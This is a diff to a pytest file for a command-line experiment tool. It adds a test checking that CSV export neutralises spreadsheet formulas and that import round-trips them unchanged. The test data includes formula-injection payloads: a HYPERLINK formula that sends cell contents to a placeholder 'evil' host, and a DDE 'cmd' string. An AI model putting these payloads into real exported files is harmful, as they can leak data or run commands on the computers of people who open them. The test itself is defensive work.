@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+
 import pytest
 
 from playbook_cli.store import Store
@@ -117,3 +119,37 @@ def test_other_tables_of_these_names_are_refused_where_they_are_said_to_be_expor
     answer = exported("import", "runs/toy/export", "--into", "runs/again")
     assert answer.code == 2
     assert "runs/toy/export: these are not the tables that playbook export writes" in answer.err
+
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "'=1", "+x", "\t=1"]
+
+
+def test_formulas_are_text_in_the_tables_and_come_back_as_they_were(bench):
+    bench.study(
+        """
+        def train(trial):
+            for step in trial.steps():
+                if trial.should_evaluate(step):
+                    trial.report(step, val_error=-1.0 / step, **{"=1+1": -3.0})
+        """,
+        trials=len(FORMULAS),
+        sampler="grid",
+        nuisance={"x": {"values": FORMULAS}},
+    )
+    assert bench("run", "study.yaml").code == 0
+    assert bench("export", "runs/toy").code == 0
+    with (bench.folder / "runs/toy/export/trials.csv").open(newline="") as file:
+        trials = list(csv.DictReader(file))
+    with (bench.folder / "runs/toy/export/evaluations.csv").open(newline="") as file:
+        evaluations = list(csv.DictReader(file))
+    assert [row["params.x"] for row in trials] == [f"'{text}" for text in FORMULAS]
+    assert {row["value"] for row in trials} == {"-0.5"}
+    assert set(evaluations[0]) == {"trial", "step", "val_error", "'=1+1"}
+    assert {row["'=1+1"] for row in evaluations} == {"-3.0"}
+    assert bench("import", "runs/toy/export", "--into", "runs/again", "--study", "study.yaml").code == 0
+    assert told(bench.folder / "runs/again") == told(bench.folder / "runs/toy")
+    assert set(Store(bench.folder / "runs/again").record().trials[0].curve.values) == {"val_error", "=1+1"}
+    assert bench("export", "runs/again").code == 0
+    for name in ("trials.csv", "evaluations.csv"):
+        first, second = (bench.folder / f"runs/{run}/export/{name}" for run in ("toy", "again"))
+        assert second.read_text() == first.read_text()
